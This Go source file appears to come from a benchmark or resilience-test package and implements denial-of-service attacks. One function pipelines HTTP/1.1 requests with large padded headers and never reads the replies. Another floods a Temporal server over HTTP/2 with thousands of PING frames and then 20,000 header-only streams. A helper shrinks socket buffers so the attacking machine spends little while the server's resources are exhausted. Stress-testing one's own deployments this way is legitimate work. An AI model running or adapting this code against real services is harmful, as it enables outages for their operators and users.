package bench

import (
	"bufio"
	"bytes"
	"cmp"
	"context"
	"fmt"
	"net"
	"strings"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// temporalStreams is how many requests an attacker has under way on one connection to Temporal: as many as its front
// takes.
const temporalStreams = 20_000

// withhold asks on one connection, and does not read what the server answers. It tells of each request that it has
// sent, and returns when the connection has ended.
func (a *attack) withhold(ctx context.Context, i *Installation, answer func(status string)) {
	address := strings.TrimPrefix(i.url, "http://")
	if a.temporal {
		address = i.temporal
	}
	conn, err := (&net.Dialer{Control: smallBuffers}).DialContext(ctx, "tcp", address)
	if err != nil {
		_ = pause(ctx, 50*time.Millisecond)
		return
	}
	defer func() { _ = conn.Close() }()
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	if a.temporal {
		a.askTemporal(ctx, conn, address, answer)
		return
	}
	request := fmt.Appendf(nil, "%s %s HTTP/1.1\r\nHost: %s\r\nAccept-Encoding: gzip\r\nX: %s\r\n\r\n", a.method, a.path,
		address, strings.Repeat("~", a.unread))
	for {
		if _, err := conn.Write(request); err != nil {
			return
		}
		answer("unread")
	}
}

// askTemporal asks over HTTP/2. First it has the answers to pings fill the buffers of the connection: a refusal has no
// body that waits for a window, so it has to wait for those.
func (a *attack) askTemporal(ctx context.Context, conn net.Conn, address string, answer func(status string)) {
	const pings = 8_000 // they fill the buffers; when 10,000 wait, the server ends the connection
	out := bufio.NewWriterSize(conn, 64<<10)
	framer := http2.NewFramer(out, conn)
	request := http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.headers(address), EndHeaders: true,
		EndStream: true}
	_, err := out.WriteString(http2.ClientPreface)
	if cmp.Or(err, framer.WriteSettings()) != nil {
		return
	}
	for n := 0; ; n++ {
		switch {
		case n >= pings && out.Flush() != nil:
			return
		case n >= pings && n < pings+temporalStreams:
			if framer.WriteHeaders(request) != nil {
				return
			}
			request.StreamID += 2
			answer("unread")
		case framer.WritePing(false, [8]byte{}) != nil, n > pings && pause(ctx, 50*time.Millisecond) != nil:
			return
		}
	}
}

// smallBuffers has the kernel keep little that was not read: of the client's, and of the server's by small segments.
// What only waits to be sent would cost this machine more than the server ever reads.
func smallBuffers(_, _ string, c syscall.RawConn) (err error) {
	unreached := c.Control(func(socket uintptr) {
		err = cmp.Or(syscall.SetsockoptInt(int(socket), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 2<<10),
			syscall.SetsockoptInt(int(socket), syscall.SOL_SOCKET, syscall.SO_SNDBUF, 16<<10),
			syscall.SetsockoptInt(int(socket), syscall.IPPROTO_TCP, syscall.TCP_MAXSEG, 1400))
	})
	return cmp.Or(unreached, err)
}

// headers are those of a request over HTTP/2, of about as many bytes as the server reads. Nothing of them refers to
// other requests.
func (a *attack) headers(authority string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", a.method}, {":scheme", "http"}, {":path", a.path},
		{":authority", authority}, {"accept-encoding", "gzip"}, {"x", strings.Repeat("~", a.unread)}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // a buffer takes all
	}
	return block.Bytes()
}
